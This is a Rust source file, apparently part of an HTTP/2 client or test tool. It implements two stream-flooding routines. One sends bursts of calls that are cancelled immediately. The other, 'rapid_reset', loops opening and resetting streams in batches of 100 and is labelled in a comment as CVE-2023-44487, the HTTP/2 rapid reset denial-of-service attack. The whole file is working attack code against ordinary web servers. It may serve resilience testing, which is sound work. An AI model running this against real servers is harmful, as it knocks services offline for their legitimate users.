use std::io;

use bytes::BytesMut;

use crate::http2::frame::Frame;
use crate::http2::{CANCEL, Connection, Head};
use crate::message::framed;

/// A burst of complete calls, each cancelled at once, like those of an honest client with short deadlines. It is sent
/// in one write, so that the server receives the resets together with the calls.
pub async fn burst(connection: &mut Connection, head: &Head, message: &[u8], calls: usize) -> io::Result<()> {
    let body = framed(message);
    let (mut opened, mut given_up) = (BytesMut::new(), BytesMut::new());
    for _ in 0..calls {
        let stream = connection.reserve();
        opened.unsplit(Connection::opening(stream, head, false));
        Frame::data(stream, body.clone(), true).append_to(&mut opened);
        Frame::reset(stream, CANCEL).append_to(&mut given_up);
    }
    opened.unsplit(given_up);
    connection.write(opened.freeze()).await
}

/// Opens and resets streams back to back, until the connection is closed or `count` are sent. Returns their number.
///
/// This is CVE-2023-44487, "rapid reset": the server starts work for streams that count as closed already.
pub async fn rapid_reset(connection: &mut Connection, head: &Head, count: usize) -> usize {
    const TOGETHER: usize = 100;
    let mut sent = 0;
    while sent < count && !connection.seen().is_closed {
        let mut frames = BytesMut::new();
        for _ in 0..TOGETHER {
            let stream = connection.reserve();
            frames.unsplit(Connection::opening(stream, head, true));
            Frame::reset(stream, CANCEL).append_to(&mut frames);
        }
        if connection.write(frames.freeze()).await.is_err() {
            break;
        }
        sent += TOGETHER;
    }
    sent
}
